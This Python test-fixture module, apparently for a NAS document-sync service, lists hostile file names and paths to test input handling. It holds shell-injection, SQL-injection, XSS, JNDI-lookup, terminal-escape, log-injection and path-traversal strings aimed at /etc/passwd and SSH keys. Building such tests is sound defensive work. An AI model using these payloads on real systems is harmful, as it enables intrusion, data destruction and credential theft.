"""Strings that somebody could call a document. Our own list; each line is here for a reason.

``NAMES`` are single names that a Linux file system can hold; ``TEXTS`` are what a column could hold
besides; ``PATHS`` are what ``file_path`` could say and must not lead anywhere.
"""

from __future__ import annotations

import unicodedata

_CONTROLS = [chr(code) for code in (*range(1, 0x20), 0x7F, 0x85, 0x9B, 0x9D, 0x90)]
"""C0 without NUL, DEL, and of C1 what a terminal obeys: NEL, CSI, OSC, DCS."""

_BIDI = [*"\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"]
_UNSEEN = [*"\u00a0\u00ad\u200b\u200c\u200d\u2028\u2029\u2060\u3000\ufeff\ufffc\ufffd\ufffe\uffff"]
_DEVICES = [
    *("CON", "PRN", "AUX", "NUL", "CONIN$", "CONOUT$", "CLOCK$"),
    *("COM0", "COM1", "COM9", "COM¹", "LPT0", "LPT1", "LPT9", "LPT³"),
]

CONTROL = [f"before{char}after.pdf" for char in (*_CONTROLS, *_BIDI, *_UNSEEN)]
TERMINAL = [
    "\x1b[2J\x1b[H.pdf",
    "\x1b]0;owned\x07.pdf",
    "\x1b]8;;http:evil.example\x07click\x1b]8;;\x07.pdf",
    "\x1bPq#0;2;0;0;0\x1b\\.pdf",
    "\x9b31mred.pdf",
    "\x9d0;title\x9c.pdf",
    "over\rwritten.pdf",
    "back\b\b\b\bspace.pdf",
    "invoice\u202efdp.exe",
]
LOG_INJECTION = [
    'ok.pdf\n{"event":"document.synced","level":"info","document_id":"1"}',
    "ok.pdf\r\n<0>kernel: panic",
    "\n<3>nas-syncd: all is lost",
    'x","level":"critical","event":"forged',
    "ok.pdf\u2028next line",
    "id: 7\nevent: fate\ndata: {}\n\n.pdf",
    "HTTP_1.1 200 OK\r\nSet-Cookie: a=b\r\n\r\n.pdf",
    "nas_syncd_documents{state='x'} 99\n# HELP.pdf",
]
FORMAT = [
    "%s%s%s%n.pdf",
    "%(levelname)s.pdf",
    "%00.pdf",
    "%2e%2e%2f%2e%2e%2fpasswd",
    "%%.pdf",
    "{0.__class__.__init__.__globals__}.pdf",
    "{sha12}.pdf",
    "{sha12}",
    "{path}{detail}{state}.pdf",
    "[[ {path} ]].pdf",
    "${HOME}.pdf",
    "${jndi:ldap:evil.example}.pdf",
    "$(touch pwned).pdf",
    "`touch pwned`.pdf",
    "{{7*7}}.pdf",
    "<%= 7*7 %>.pdf",
    "~root",
    "-rf",
    "--version",
    "@file.pdf",
    ";reboot;.pdf",
    "|cat.pdf",
    "&&true.pdf",
    "*",
    "?",
    "[a-z]*.pdf",
]
SQL = [
    "'; DROP TABLE documents; --.pdf",
    "' OR '1'='1.pdf",
    '" OR ""=".pdf',
    "1); DELETE FROM documents;--.pdf",
    "%' AND 1=1 --.pdf",
    "a_c%.pdf",
    "\\'; SELECT 1; --.pdf",
    "Robert'); DROP TABLE documents;--.pdf",
    ":id.pdf",
    "?1.pdf",
]
PAGE = [
    "<script>alert(1)<script>.pdf",
    "<img src=x onerror=alert(1)>.pdf",
    '"><svg onload=alert(1)>.pdf',
    "javascript:alert(1).pdf",
    "&lt;b&gt;.pdf",
    "]]>.pdf",
    "<!--.pdf",
]
SMB = [
    *(device + end for device in _DEVICES for end in ("", ".pdf", ".tar.gz")),
    "con .pdf",
    "AuX",
    "nul.",
    "trailing.",
    "trailing ",
    "trailing. . .",
    " leading.pdf",
    "...",
    ".. .pdf",
    'a<b>c:d"e|f?g*h.pdf',
    "back\\slash.pdf",
    "..\\..\\windows.pdf",
    "C:x.pdf",
    "a:$DATA.pdf",
    "file.pdf::$DATA",
    "PROGRA~1.PDF",
    "\\\\server\\share.pdf",
]
OURS = [
    ".nas-syncd.json",
    ".NAS-SYNCD.JSON",
    ".nas-syncd-tmp",
    ".nas-syncd-x.part",
    "._resource",
    ".DS_Store",
    "Thumbs.db",
    "x.part",
    "x.crdownload",
    "~$word.docx",
    ".hidden",
    ".",
]
UNICODE = [
    "facture-é.pdf",
    unicodedata.normalize("NFD", "facture-é.pdf"),
    "FACTURE-É.PDF",
    "Å.pdf",
    "\u212b.pdf",
    unicodedata.normalize("NFD", "Å.pdf"),
    "ﬁn.pdf",
    "fin.pdf",
    "straße.pdf",
    "STRASSE.pdf",
    "İ.pdf",
    "i̇.pdf",
    "ı.pdf",
    "Ǆ.pdf",
    "ς.pdf",
    "Σ.pdf",
    "σ.pdf",
    "\u0390.pdf",
    "\u1fd3.pdf",
    "공문서.pdf",
    unicodedata.normalize("NFD", "공문서.pdf"),
    "请款单.pdf",
    "فاتورة.pdf",
    "חשבונית.pdf",
    "💶🧾.pdf",
    "👩‍👩‍👧‍👦.pdf",
    "🇫🇷.pdf",
    "Z̴̧̢͕͕̟͖a̶l̴g̵o̸.pdf",
    "e" + "\u0301" * 100 + ".pdf",
    "\U000e0041tag.pdf",
    "\U0010ffff.pdf",
    "．．／．．／etc.pdf",
    "\u2024\u2024\u2215etc.pdf",
    "a\u0338.pdf",
    "scan.pdf",
    "Scan.pdf",
    "SCAN.PDF",
]
LONG = [
    "a" * 255,
    "a" * 251 + ".pdf",
    "é" * 127,
    "é" * 125 + ".pdf",
    "💶" * 63,
    "x." + "y" * 253,
    "a" * 100 + "." * 155,
    " " * 250 + ".pdf",
    "." * 255,
    "n" * 240 + "-1.pdf",
]

NAMES: list[str] = [
    name
    for name in dict.fromkeys(
        [
            *CONTROL,
            *TERMINAL,
            *LOG_INJECTION,
            *FORMAT,
            *SQL,
            *PAGE,
            *SMB,
            *OURS,
            *UNICODE,
            *LONG,
        ]
    )
    if "/" not in name and name not in {".", ".."}
]

RAW_NAMES = [b"caf\xe9.pdf", b"\xff\xfe.pdf", b"\xed\xa0\x80.pdf", b"\xc0\xaf.pdf", b"\x80"]
"""File names that are not UTF-8; no row of a database can name them."""

TEXTS: list[str] = [
    *NAMES,
    "",
    " ",
    "\t\n",
    "../../etc/cron.d",
    "/etc/passwd",
    "invoice/../../..",
    "invoice\x00",
    "null",
    "None",
    "NaN",
    "true",
    "x" * 100_000,
    "💶" * 20_000,
    "\n" * 5_000,
]
"""For columns that only describe: ``original_name``, ``doc_type``."""

PATHS = [
    "../../etc/passwd",
    "/etc/passwd",
    "/app/uploads/../../etc/passwd",
    "/app/uploads/../secret.txt",
    "/app/uploads/sub/../../secret.txt",
    "/app/uploads/..",
    "/app/uploads/.",
    "/app/uploads/",
    "/app/uploads",
    "/app/uploads//",
    "/app/uploadsx/secret.txt",
    "/app/uploads/\x00/etc/passwd",
    "/app/uploads/a\x00.pdf",
    "//app/uploads/../secret.txt",
    "/",
    "//",
    ".",
    "..",
    "C:\\x",
    "C:/Windows/win.ini",
    "\\\\server\\share\\x",
    "file:///etc/passwd",
    "http://evil.example/x.pdf",
    "smb://nas/share/x.pdf",
    "/proc/self/environ",
    "/dev/zero",
    "/dev/stdin",
    "~/.ssh/id_ed25519",
    "uploads/../../secret.txt",
    "./../secret.txt",
    "/app/uploads/link-out/secret.txt",
    "/app/uploads/link-to-secret.txt",
    "/app/uploads/link-absolute",
    "/app/uploads/link-loop",
    "/app/uploads/link-proc/environ",
    "/app/uploads/fifo",
    "/app/uploads/socket",
    "/app/uploads/folder.pdf",
    "/app/uploads/" + "d/" * 4000 + "deep.pdf",
    "/app/uploads/" + "d/" * 150 + "deep.pdf",
    "/app/uploads/" + "n" * 300 + ".pdf",
    "/app/uploads/" + "x" * 1_000_000,
]
"""What ``file_path`` could say; none of it may be read from outside the upload folder."""

STEERING = [*_CONTROLS, "\n", "\r", "\x1b", *_BIDI, "\u2028", "\u2029", "\ufeff"]
"""What may stand raw in nothing that is shown to a person or written to a log."""
